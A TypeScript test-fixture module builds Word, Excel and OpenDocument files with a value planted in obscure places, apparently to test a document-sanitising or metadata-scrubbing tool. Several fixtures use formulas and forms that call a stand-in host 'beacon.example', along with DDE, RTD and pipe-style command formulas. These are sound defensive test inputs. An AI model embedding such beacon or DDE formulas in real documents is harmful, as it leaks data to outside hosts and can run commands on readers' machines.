import { aDocx, anOdt, anXlsx } from './office-files.ts'
import { field, paragraph, run, text } from './planted-office.ts'

type Kind = [kind: string, planted: Uint8Array | Promise<Uint8Array>]

const a = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
const w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
const theme = (inside: string) => ({
  relations: [['theme', 'theme/theme1.xml']] as [string, string][],
  files: { 'word/theme/theme1.xml': `<a:theme ${a} ${inside}</a:theme>` },
})
const chart = (inside: string) =>
  `<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart">${inside}</c:chartSpace>`
const reference = (who: string) =>
  chart(`<c:ser><c:val><c:numRef><c:f>'C:\\${who}\\[${who}.xlsx]Plots'!$A$1</c:f></c:numRef></c:val></c:ser>`)
const numbering = (inside: string) => ({
  relations: [['numbering', 'numbering.xml']] as [string, string][],
  files: {
    'word/numbering.xml': `<w:numbering ${w}><w:abstractNum w:abstractNumId="0">${inside}</w:abstractNum></w:numbering>`,
  },
})

/** DOCX that hold a word deeper: where templates, lists, forms and extensions keep it. */
export const deepDocx = (who: string): Kind[] => [
  ['name of a theme', aDocx(theme(`name="${who}"><a:themeElements/>`))],
  [
    'names of a theme’s colours and fonts',
    aDocx(
      theme(
        `><a:clrScheme name="${who}"/><a:fontScheme name="${who}"/><a:custClrLst><a:custClr name="${who}"/></a:custClrLst>`,
      ),
    ),
  ],
  [
    'family of a theme',
    aDocx(
      theme(
        'name="x"><a:extLst><a:ext uri="{05A4C25C}"><thm15:themeFamily ' +
          `xmlns:thm15="http://schemas.microsoft.com/office/thememl/2012/main" name="${who}" id="{${who}}"/></a:ext></a:extLst>`,
      ),
    ),
  ],
  [
    'identities of a list',
    aDocx(numbering(`<w:nsid w:val="${who}"/><w:tmpl w:val="${who}"/><w:name w:val="${who}"/>`)),
  ],
  [
    'help and name of a form’s field',
    aDocx({
      body: paragraph(
        run(
          `<w:fldChar w:fldCharType="begin"><w:ffData><w:name w:val="${who}"/><w:helpText w:val="${who}"/>` +
            `<w:statusText w:val="${who}"/><w:exitMacro w:val="${who}"/></w:ffData></w:fldChar>`,
        ) +
          run('<w:instrText>FORMTEXT</w:instrText>') +
          run('<w:fldChar w:fldCharType="end"/>'),
      ),
    }),
  ],
  ['field that names another file', aDocx({ body: field(`RD "C:\\\\${who}\\\\chapter.docx"`, '') })],
  [
    'identity of a drawing',
    aDocx({
      body: paragraph(
        run(
          '<w:drawing><wp:inline><wp:docPr id="1" name="x"><a:extLst><a:ext uri="{FF2B5EF4}">' +
            '<a16:creationId xmlns:a16="http://schemas.microsoft.com/office/drawing/2014/main" ' +
            `id="{${who}}"/></a:ext></a:extLst></wp:docPr></wp:inline></w:drawing>`,
        ),
      ),
    }),
  ],
  [
    'address of a film',
    aDocx({
      body: paragraph(
        run(
          '<w:drawing><wp:inline><wp:docPr id="1" name="x"><a:extLst><a:ext uri="{C809E66F}">' +
            '<wp15:webVideoPr xmlns:wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing" ' +
            `embeddedHtml="${who}"/></a:ext></a:extLst></wp:docPr></wp:inline></w:drawing>`,
        ),
      ),
    }),
  ],
  ['identity of an old shape', aDocx({ body: paragraph(run(`<w:pict><v:shape id="${who}"/></w:pict>`)) })],
  [
    'workbook of a chart',
    aDocx({
      relations: [['chart', 'charts/chart1.xml']],
      files: { 'word/charts/chart1.xml': reference(who) },
      body: paragraph(run('<w:drawing><c:chart r:id="rId1"/></w:drawing>')),
    }),
  ],
  [
    'place within a linked file',
    aDocx({
      relations: [['hyperlink', 'https://example.org/', true]],
      body: paragraph(
        `<w:hyperlink r:id="rId1" w:docLocation="${who}" w:tgtFrame="${who}">${text('there')}</w:hyperlink>`,
      ),
    }),
  ],
  [
    'glossary',
    aDocx({ relations: [['glossaryDocument', 'glossary/document.xml']], files: { 'word/glossary/document.xml': who } }),
  ],
  [
    'settings of the web',
    aDocx({
      relations: [['webSettings', 'webSettings.xml']],
      files: { 'word/webSettings.xml': `<w:webSettings ${w}><w:divs><w:div w:id="${who}"/></w:divs></w:webSettings>` },
    }),
  ],
]

/** XLSX that hold a word deeper. */
export const deepXlsx = (who: string): Kind[] => [
  [
    'name for cells of another file',
    anXlsx({
      body: `<definedNames><definedName name="x" comment="${who}">'C:\\[${who}.xlsx]Plots'!$A$1</definedName></definedNames>`,
    }),
  ],
  [
    'comment of a name',
    anXlsx({
      body: `<definedNames><definedName name="x" comment="${who}" description="${who}">Plots!$A$1</definedName></definedNames>`,
    }),
  ],
  [
    'formula of another file',
    anXlsx({
      sheet: `<dataValidations><dataValidation><f>'C:\\data\\[${who}.xlsx]Plots'!A1</f></dataValidation></dataValidations>`,
    }),
  ],
  ...[
    (who: string) => `WEBSERVICE("https://beacon.example/${who}")`,
    (who: string) => `IMPORTTEXT("https://beacon.example/${who}.csv")`,
    (who: string) => `IMPORTDATA("https://beacon.example/${who}")`,
    (who: string) => `_xlfn.IMAGE("https://beacon.example/${who}.png")`,
    (who: string) => `RTD("prog","",${JSON.stringify(who)})`,
    (who: string) => `${who}|'/c x'!A1`,
    (who: string) => `DDE("soffice";"${who}";"A1")`,
  ].flatMap((formula): Kind[] => [
    [
      `a formula that asks elsewhere: ${formula('who')}`,
      anXlsx({ sheet: `<sheetData><row r="9"><c r="A9"><f>${formula(who)}</f><v>1</v></c></row></sheetData>` }),
    ],
    [
      `a rule that asks elsewhere: ${formula('who')}`,
      anXlsx({
        sheet:
          '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1">' +
          `<formula>${formula(who)}</formula></cfRule></conditionalFormatting>`,
      }),
    ],
  ]),
  [
    'name of a theme',
    anXlsx({
      relations: [['theme', 'theme/theme1.xml']],
      files: { 'xl/theme/theme1.xml': `<a:theme ${a} name="${who}"/>` },
    }),
  ],
]

const form = 'xmlns:form="urn:oasis:names:tc:opendocument:xmlns:form:1.0"'
const p = (inside: string) => `<text:p>Kept ${inside}</text:p>`

/** ODTs that hold a word deeper. */
export const deepOdt = (who: string): Kind[] => [
  ...[
    '<form:button xmlns:form="urn:oasis:names:tc:opendocument:xmlns:form:1.0" ' +
      `form:name="b" form:image-data="http://beacon.example/${who}.png"/>`,
    `<xforms:model xmlns:xforms="http://www.w3.org/2002/xforms" schema="http://beacon.example/${who}">` +
      `<xforms:submission action="http://beacon.example/${who}"/></xforms:model>`,
  ].map(
    (form): Kind => [`a form that asks elsewhere: ${form}`, anOdt({ body: `<office:forms>${form}</office:forms>` })],
  ),
  ...[
    `of:=WEBSERVICE(&quot;https://beacon.example/${who}&quot;)`,
    `of:=[&apos;https://beacon.example/${who}.ods&apos;#$S.A1]`,
    `of:=DDE(&quot;soffice&quot;;&quot;${who}&quot;;&quot;A1&quot;)`,
  ].map(
    (formula): Kind => [
      `a formula that asks elsewhere: ${formula}`,
      anOdt({
        body:
          `<table:table><table:table-column/><table:table-row><table:table-cell table:formula="${formula}">` +
          '<text:p>1</text:p></table:table-cell></table:table-row></table:table>',
      }),
    ],
  ),
  [
    'value of a user’s field',
    anOdt({
      body: `<text:user-field-decls><text:user-field-decl text:name="x" office:string-value="${who}"/></text:user-field-decls>`,
    }),
  ],
  [
    'place of a cited work',
    anOdt({
      body: p(
        `<text:bibliography-mark text:identifier="${who}" text:url="file:///home/${who}/a.pdf">[1]</text:bibliography-mark>`,
      ),
    }),
  ],
  [
    'hidden text',
    anOdt({ body: p(`<text:hidden-text text:condition="1" text:string-value="${who}">${who}</text:hidden-text>`) }),
  ],
  [
    'other text of a condition',
    anOdt({ body: p(`<text:conditional-text text:string-value-if-false="${who}">shown</text:conditional-text>`) }),
  ],
  [
    'file of a section',
    anOdt({
      body: `<text:section text:name="a"><text:section-source xlink:href="drafts/${who}.odt"/>${p('')}</text:section>`,
    }),
  ],
  [
    'tag of a control',
    anOdt({
      body: p(
        '<loext:content-control ' +
          'xmlns:loext="urn:org:documentfoundation:names:experimental:office:xmlns:loext:1.0" ' +
          `loext:alias="${who}" loext:tag="${who}">shown</loext:content-control>`,
      ),
    }),
  ],
  ['name of a shape', anOdt({ body: p(`<draw:custom-shape draw:name="${who}"/>`) })],
  [
    'path in the description of a picture',
    anOdt({
      body: p(
        '<draw:frame><svg:desc xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0">' +
          `C:\\${who}\\a.png</svg:desc></draw:frame>`,
      ),
    }),
  ],
  [
    'where a form has its values from',
    anOdt({
      body:
        `<office:forms ${form}><form:form form:order="${who}" form:filter="${who}">` +
        `<form:radio form:group-name="${who}" form:linked-cell="${who}.A1"/>` +
        `<form:listbox form:list-source="${who}" form:data-field="${who}"/></form:form></office:forms>`,
    }),
  ],
  [
    'another file that a section shows, and when it does',
    anOdt({
      body:
        '<text:section text:name="S"><text:section-source xlink:href="../a.odt" ' +
        `text:section-name="${who}" text:filter-name="${who}"/>${p('a')}</text:section>`,
    }),
  ],
  [
    'hidden field and database of a form',
    anOdt({
      body:
        `<office:forms ${form}><form:form form:datasource="${who}" form:command="${who}">` +
        `<form:hidden form:value="${who}"/></form:form></office:forms>`,
    }),
  ],
  [
    'statement about words',
    anOdt({
      body: p(
        `<text:meta xmlns:xhtml="http://www.w3.org/1999/xhtml" xhtml:about="${who}" xhtml:content="${who}">shown</text:meta>`,
      ),
    }),
  ],
  ['statements about the file', anOdt({ files: { 'manifest.rdf': who, 'Thumbnails/a.png': who } })],
  [
    'picture without its file',
    anOdt({ body: p(`<draw:frame><draw:image xlink:href="Pictures/${who}.png"/></draw:frame>`) }),
  ],
]
